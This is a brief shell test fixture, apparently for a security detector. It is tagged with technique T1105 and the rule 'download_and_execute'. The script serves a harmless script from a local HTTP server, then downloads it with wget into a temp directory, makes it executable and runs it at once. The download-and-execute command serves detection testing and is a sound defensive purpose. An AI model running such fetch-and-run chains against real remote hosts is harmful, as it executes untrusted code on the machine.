# technique: T1105 a program fetched with wget into /tmp and run at once
# rule: download_and_execute
# exe: /usr/bin/dash
. "$(dirname "$0")/common.bash"
serve_http '#!/bin/sh
exit 0
'
sh -c "wget -q -O $VG_TMP/p http://127.0.0.1:$VG_PORT/p && chmod +x $VG_TMP/p && $VG_TMP/p"
